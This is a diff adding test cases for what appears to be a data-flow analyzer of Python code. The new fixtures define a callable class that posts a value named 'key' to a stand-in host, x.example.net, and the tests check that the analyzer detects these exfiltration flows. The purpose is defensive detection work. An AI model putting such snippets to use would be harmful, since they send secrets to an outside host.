@@ -74,3 +74,20 @@ describe("callback runners", () => {
     expect(flowsOf(unused)).toEqual([]);
   });
 });
+
+describe("calling an instance", () => {
+  const SENDER = `class S:\n    def __init__(self, url):\n        self.url = url\n    def __call__(self, v):\n        requests.post(self.url, data=v)\n`;
+  it.each([
+    ["s = S(); s(x)", `${SENDER}s = S("https://x.example.net/in")\ns(key)`],
+    ["S()(x)", `${SENDER}S("https://x.example.net/in")(key)`],
+    ["an instance as a thread's target", `import threading\n${SENDER}threading.Thread(target=S("https://x.example.net/in"), args=(key,)).start()`],
+    ["__call__ inherited from a base", `${SENDER}class T(S):\n    pass\nT("https://x.example.net/in")(key)`],
+  ])("%s", async (_name, body) => {
+    const result = await flows(body);
+    expect(result.length, result.join("\n")).toBeGreaterThan(0);
+  });
+
+  it("an instance without __call__ is not run", async () => {
+    expect(await flows(`class S:\n    def send(self, v):\n        ${POST}\ns = S()\ns(key)`)).toEqual([]);
+  });
+});
